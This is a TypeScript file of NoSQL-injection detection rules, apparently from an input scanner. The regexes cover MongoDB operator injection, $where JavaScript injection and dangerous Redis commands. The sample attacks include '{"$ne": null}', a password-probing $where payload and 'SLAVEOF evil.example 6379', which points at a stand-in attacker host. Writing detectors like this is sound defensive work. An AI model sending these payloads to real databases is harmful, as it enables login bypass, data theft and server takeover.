import { inText } from '../match.js';
import type { Rule } from '../rule.js';
import { Sign } from '../signs.js';

const family = 'nosql-injection';

export const nosqlRules: readonly Rule[] = [
  {
    id: 'nosql-operator',
    family,
    score: 5,
    why: 'A query operator where a plain value belongs matches everything.',
    attack: '{"$ne": null}',
    innocent: 'it costs $in: 5',
    needs: Sign.letter,
    hints: ['$', '"&', "'&", '[&', '{&'],
    match: inText(
      /(?:["'[{,(]|^)\s{0,4}[$&](?:ne|eq|gte?|lte?|n?in|x?or|and|not|nor|regex|where|exists|expr|type|mod|all|size|elemmatch|comment|function|accumulator|lookup|jsonschema|text|slice|meta|options|set|unset|push|pull|inc|rename|addtoset|pop|currentdate|eval|match|merge|out|group|project)\b\s{0,3}(?:["']\s{0,3}[:=}\]]|[:=]|\]\s{0,2}["'=[])/,
      /\$where\b\s{0,3}['"]?\s{0,3}[:=]/,
    ),
  },
  {
    id: 'nosql-javascript',
    family,
    score: 5,
    why: 'JavaScript that closes the string in a $where clause and goes on.',
    attack: "' && this.password.match(/a/)//",
    innocent: 'match this. password is wrong',
    needs: Sign.letter,
    anyOf: [
      {
        hints: ['this.'],
        match: inText(/(?:&&|\|\||;|['"])\s{0,4}this\.\w{1,40}\s{0,2}(?:[.!=<>[]|\))/),
      },
      { hints: ['.match('], match: inText(/this\.\w{1,40}\.match\(/) },
      {
        hints: ['return'],
        match: inText(
          /['"]\s{0,4};?\s{0,3}return\b\s{0,4}\(?(?:true|false|this|['"(]|\d|\w{1,9}\s?[=!<>])/,
        ),
      },
      {
        hints: ['db.'],
        match: inText(
          /\bdb\.(?:\w{1,40}\.)?(?:insert|find|drop|remove|update|getcollection|injection|version|stats|getcollectionnames|listcollections|copydatabase|eval|create|run|admin|auth|shutdown|getusers|users)\w{0,12}\s?\(/,
        ),
      },
      {
        hints: ['||', '&&'],
        match: inText(
          /(?:\|\||&&)\s{0,3}['"]?(?:\w|true)['"]?\s{0,3}={1,3}\s{0,3}['"]?\w?['"]?\s{0,3}(?:\/\/|%00|\0|;|\})/,
        ),
      },
      {
        hints: ['date', '_admin'],
        match: inText(/;\s{0,3}(?:it=)?new\s{0,3}date\b|"roles"\s?:\s?\[\s?"_admin"/),
      },
      { hints: ['mapreduce', 'tojson'], match: inText(/\bmapreduce\s?\(|\btojson\w{0,12}\(/) },
    ],
  },
  {
    id: 'nosql-redis-command',
    family,
    score: 5,
    why: 'The value is an administrative command of Redis, or a script that calls it.',
    attack: 'SLAVEOF evil.example 6379',
    innocent: 'reconfig the flush valve',
    needs: Sign.letter,
    hints: [
      'redis.',
      'flush',
      'slaveof',
      'replicaof',
      'config ',
      'script ',
      'module load',
      'debug ',
    ],
    match: inText(
      /\bredis\.p?call\s?\(\s?['"]|^\W{0,6}(?:flushall|flushdb)\W{0,6}$|(?:^|[\r\n])\s?(?:slaveof|replicaof)\s[\w.-]{1,80}\s\d{1,5}\b/,
      /^\s?(?:config\s(?:get\s\S{1,40}|set\s\S{1,40}\s\S{1,200})|debug\s(?:segfault|sleep\s\d)|script\s(?:load\s['"]|flush|kill)|module\sload\s\/)/,
    ),
  },
];
